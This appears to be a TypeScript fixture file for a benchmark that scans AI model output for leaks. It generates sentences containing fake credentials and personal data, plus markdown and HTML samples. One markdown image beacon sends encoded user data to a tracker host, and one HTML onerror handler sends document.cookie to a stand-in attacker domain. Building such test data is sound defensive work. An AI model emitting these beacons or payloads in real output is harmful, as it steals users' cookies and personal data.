import { mulberry32 } from '../lib/rng.js';
import { awsKeyPair, cardNumber, databaseUrl, email, githubToken, jwt, phone, type Random } from './fakes.js';

/**
 * Hand-written model output the output benchmark builds its inputs from: sentences that leak
 * credentials and personal data (values generated in `fakes.ts`), markdown with links and
 * images, and HTML. Clean prose is the scan suite's benign corpus.
 */

/** Sentences an assistant might write that leak one or two values each. */
const LEAK_TEMPLATES: readonly ((random: Random) => string)[] = [
  (random) => {
    const key = awsKeyPair(random);
    return `Here is the deploy config you asked for:\n\naws_access_key_id = ${key.id}\naws_secret_access_key = ${key.secret}\n\n`;
  },
  (random) => `Point the migration at ${databaseUrl(random)} and run it after the nightly backup. `,
  (random) => `The login call returned the session token ${jwt(random)}; it expires in an hour. `,
  (random) => `Set ${githubToken(random)} as GITHUB_TOKEN in the CI settings and re-run the job. `,
  (random) =>
    `You can reach the account owner at ${email(random)} or on ${phone(random)} during office hours. `,
  (random) =>
    `The customer paid with card ${cardNumber(random)} (exp 09/27) and wants the receipt at ${email(random)}. `,
];

/** Two rounds of every template with different values, always the same ones. */
export function leakSentences(): string[] {
  const random = mulberry32(0x5ec2e7);
  const out: string[] = [];
  for (let round = 0; round < 2; round++) for (const template of LEAK_TEMPLATES) out.push(template(random));
  return out;
}

/** Markdown an assistant renders in a chat UI; one segment is an image beacon carrying data. */
export const MARKDOWN_SEGMENTS: readonly string[] = [
  '## Setup\n\nSee the [installation guide](https://docs.northwind.io/guide/install#node) before you start, and the [FAQ][faq] for common errors.\n\n',
  '![Architecture overview](https://docs.northwind.io/img/architecture.png "How the services talk")\n\n',
  '- [Release notes](https://github.com/northwind/app/releases/tag/v2.4.0)\n- [Issue 1432](https://github.com/northwind/app/issues/1432)\n- <https://status.northwind.io>\n\n',
  'Run `npm ci` first; the **build** takes about a minute. The chart shows the last *thirty* days:\n\n![Build times](https://ci.northwind.io/badges/build-time.svg)\n\n',
  '| step | docs |\n|---|---|\n| lint | [biome](https://biomejs.dev) |\n| test | [vitest](https://vitest.dev/guide/) |\n\n',
  '> Note: images from [our CDN](https://cdn.northwind.io/) are cached for a day; see [caching](https://docs.northwind.io/caching "Cache rules").\n\n',
  '[faq]: https://docs.northwind.io/faq\n\n',
  `Thanks for waiting! ![progress](https://metrics.tracker-cdn.net/pixel.gif?session=${Buffer.from('user=ana.ortega; plan=enterprise; card=4929').toString('base64url')})\n\n`,
];

/** HTML an assistant produces for a web page; one segment carries an event-handler payload. */
export const HTML_SEGMENTS: readonly string[] = [
  '<h2>Quarterly summary</h2>\n<p>Revenue grew by <strong>eleven percent</strong>, mostly from annual plans. See the <a href="https://docs.northwind.io/report/q3">full report</a>.</p>\n',
  '<ul>\n  <li><a href="https://github.com/northwind/app/releases">Release notes</a></li>\n  <li><em>Churn</em> stayed flat</li>\n</ul>\n',
  '<table>\n  <tr><th>city</th><th>stores</th></tr>\n  <tr><td>Lyon</td><td>4</td></tr>\n  <tr><td>Porto</td><td>2</td></tr>\n</table>\n',
  '<p><img src="https://cdn.northwind.io/charts/revenue.png" alt="Revenue chart" width="640"></p>\n',
  '<blockquote><p>Please summarise the attached contract and list every clause about termination.</p></blockquote>\n',
  '<pre><code>npm ci &amp;&amp; npm test</code></pre>\n',
  '<p>Thanks for reading! <img src="x" onerror="fetch(\'https://evil.tracker-cdn.net/?c=\'+document.cookie)"></p>\n',
  '<p style="color: #333">The hiking route climbs four hundred metres through pine forest before the ridge.</p>\n',
];
